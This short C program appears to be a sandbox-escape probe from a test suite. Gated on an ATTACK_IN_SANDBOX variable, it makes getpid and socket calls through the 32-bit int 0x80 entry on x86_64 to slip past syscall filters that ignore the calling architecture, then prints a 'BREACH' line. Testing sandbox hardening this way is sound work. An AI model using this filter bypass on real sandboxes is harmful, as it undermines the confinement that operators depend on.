// make system calls through the 32-bit entry, which a careless filter does not check
#include <stdio.h>
#include <stdlib.h>

int main(void) {
    if (!getenv("ATTACK_IN_SANDBOX")) return 1;
    fflush(stdout);
#ifdef __x86_64__
    long pid, made, args[] = {1, 1, 0};
    (void)args;
    __asm__ volatile("int $0x80" : "=a"(pid) : "a"(20L) : "memory", "r8", "r9", "r10", "r11"); /* getpid */
    __asm__ volatile("int $0x80" : "=a"(made) : "a"(359L), "b"(1L), "c"(1L), "d"(0L) : "memory", "r8", "r9", "r10", "r11");
    printf("BREACH getpid gave %ld, socket gave %ld\n", pid, made);
#endif
}
